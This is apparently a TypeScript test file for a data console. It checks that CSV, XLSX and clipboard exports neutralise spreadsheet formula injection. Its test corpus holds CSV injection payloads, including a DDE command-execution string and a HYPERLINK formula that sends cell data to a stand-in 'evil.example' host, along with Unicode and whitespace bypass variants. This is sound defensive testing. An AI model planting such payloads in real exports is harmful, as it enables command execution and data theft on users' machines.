/** Every way that a cell leaves the console for a spreadsheet, tried with one corpus: none may arrive as a formula. */
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { htmlOf, tsvOf } from '@/components/table/copy-range';
import { csvLine } from '@/lib/languages/csv/csv-line.ts';
import { cellsOf, RowScanner } from '../result/csv-rows';
import { csvRows } from '../rows/csv-rows';
import type { Cell } from '../schemas';
import { exportWriters } from './export-writers';

const CORPUS = [
  '=1+1',
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"more")',
  '+1+1',
  '+44 20 7946 0000',
  '-1+1',
  '-2+3+cmd|x',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  '"=1+1"',
  '";=1+1',
  '",=1+1',
  "'=1+1",
  '=1+1\r\n=2+2',
  'a plain one, last: the line’s end is behind it',
];
const columns = CORPUS.map((name) => ({ name, type: 'varchar' }));
const rows: Cell[][] = [CORPUS];
/** What a spreadsheet evaluates: by its first character, as Excel, LibreOffice and Google Sheets read a pasted or imported cell. */
const RUN = /^[\s\u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/;

async function written(chunks: AsyncGenerator<Uint8Array>): Promise<Buffer> {
  return Buffer.concat(await Array.fromAsync(chunks));
}

async function* pages() {
  yield rows;
}

/** As any reader of RFC 4180 takes it apart. */
function cellsIn(csv: Buffer): (string | null)[] {
  const cells: (string | null)[] = [];
  const scanner = new RowScanner((row, start, end) => cells.push(...cellsOf(row, start, end)));
  scanner.push(csv);
  scanner.end();
  return cells;
}

describe('CSV', () => {
  it.each([
    ['of an export', () => written(exportWriters.csv.write(columns, pages()))],
    ['of the data API', () => written(csvRows(columns, pages()))],
    ['of the quality report, line by line', async () => Buffer.from(csvLine(CORPUS) + csvLine(CORPUS))],
  ])('%s has every name and every text as a text', async (_, write) => {
    const cells = cellsIn(await write());
    expect(cells).toHaveLength(2 * CORPUS.length);
    expect(cells.filter((cell) => RUN.test(cell?.replace(/^\ufeff/, '') ?? ''))).toEqual([]);
    for (const text of CORPUS) expect(cells.some((cell) => cell?.includes(text))).toBe(true);
  });
});

describe('a workbook', () => {
  it('has no formula in it, and every text as it is', async () => {
    const parts = unzipSync(await written(exportWriters.xlsx.write(columns, pages())));
    const sheet = strFromU8(parts['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
    expect(sheet).not.toMatch(/<f[ >]/);
    const types = [...sheet.matchAll(/<c r="[A-Z]+[12]"([^>]*)>/g)].map(([, attributes]) => attributes);
    expect(types).toHaveLength(2 * CORPUS.length);
    expect(types.filter((attributes) => !attributes?.includes('t="inlineStr"'))).toEqual([]);
  });
});

describe('what is copied', () => {
  it('is a table whose texts are marked as such for a spreadsheet, which takes it before the plain text', () => {
    const copied = { columns, rows, withHeaders: false };
    const cells = htmlOf(copied).match(/<td[^>]*>/g) ?? [];
    expect(cells).toHaveLength(CORPUS.length);
    expect(cells.filter((cell) => !cell.includes("mso-number-format:'\\@'"))).toEqual([]);
    expect(htmlOf(copied)).not.toMatch(/<(script|a|img)\b/);
    // For editors: as it is, one line for a row, whatever a text holds.
    expect(
      tsvOf(copied)
        .replace(/"(?:[^"]|"")*"/g, '')
        .split('\n'),
    ).toHaveLength(1);
  });
});
